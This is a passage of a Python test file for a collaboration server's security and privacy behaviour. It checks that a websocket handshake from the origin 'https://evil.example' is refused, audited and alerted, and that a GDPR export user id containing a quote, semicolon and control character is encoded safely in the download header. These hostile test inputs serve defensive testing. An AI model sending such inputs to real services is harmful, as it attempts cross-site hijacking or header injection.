        "type": "clip", "props": {"42": "bob's prop named 42", "title": "42", "start": 42}
    }  # fmt: skip
    assert snapshot["versions"]["42"] == head["versions"]["42"]
    assert snapshot["elements"]["clip-of-42"] == head["elements"]["clip-of-42"]
    with sqlite3.connect(data_store(server).path) as conn:
        bobs_after = conn.execute(
            "SELECT seq, kind, user_id, payload, effects FROM events WHERE user_id = 'bob' "
            "ORDER BY seq").fetchall()  # fmt: skip
        authors = {row[0] for row in conn.execute("SELECT DISTINCT user_id FROM events")}
        change_42 = conn.execute(
            "SELECT user_id FROM changes WHERE change_id = '42'").fetchone()  # fmt: skip
        comments = conn.execute("SELECT comment_id, user_id, text FROM comments").fetchall()
        conflict = json.loads(conn.execute("SELECT data FROM conflicts").fetchone()[0])
    assert bobs_after == bobs_before, "bob's events are byte for byte what they were"
    assert authors == {"bob", pseudonym}
    assert change_42 == ("bob",)
    assert comments == [("42", "bob", "42")]
    assert {conflict["current"]["user_id"], conflict["incoming"]["user_id"]} == {"bob", pseudonym}
    assert conflict["incoming"]["value"] == "42"  # the value 42 wrote is content: it stays
    assert set(conflict["roles"]) <= {"bob", pseudonym}


async def test_cross_site_websocket_attempts_are_audited_and_alerted(
    server: Server, endpoint: str
) -> None:
    from .conftest import ws_url
    from .test_auth import handshake

    with trio.fail_after(10):
        status, _body = await handshake(ws_url(server, endpoint), "https://evil.example")
        assert status == 403
        refused = await server.hub.audit.query(action="origin_refused")
        alerts = await server.security.open_alerts()
    assert [e.details["origin"] for e in refused] == ["https://evil.example"]
    assert refused[0].ip_address == "127.0.0.1" and refused[0].project_id is None
    assert [(a.type, a.subject) for a in alerts] == [("suspicious_activity", "ip:127.0.0.1")]


async def test_csv_export_names_any_user_id_in_a_valid_header(server: Server) -> None:
    """A GDPR export of a user id that is not plain ASCII (found by schemathesis: the header
    was refused by h11 and the request answered 500) names its file in an ASCII ``filename``
    and the exact id in RFC 6266's ``filename*``."""
    owner = bearer(server, "olga", "owner")
    with trio.fail_after(20):
        odd = await call(server, "POST", "/api/collaboration/gdpr/export",
                         {"userId": 'ú"é;\x12', "format": "csv"}, owner)  # fmt: skip
        plain = await call(server, "POST", "/api/collaboration/gdpr/export",
                           {"userId": "alice", "format": "csv"}, owner)  # fmt: skip
    assert odd.status_code == 200, odd.text
    assert odd.headers["content-disposition"] == (
        'attachment; filename="crealia-user-_____.csv"; '
        "filename*=UTF-8''crealia-user-%C3%BA%22%C3%A9%3B%12.csv"
    )
    assert plain.headers["content-disposition"] == 'attachment; filename="crealia-user-alice.csv"'
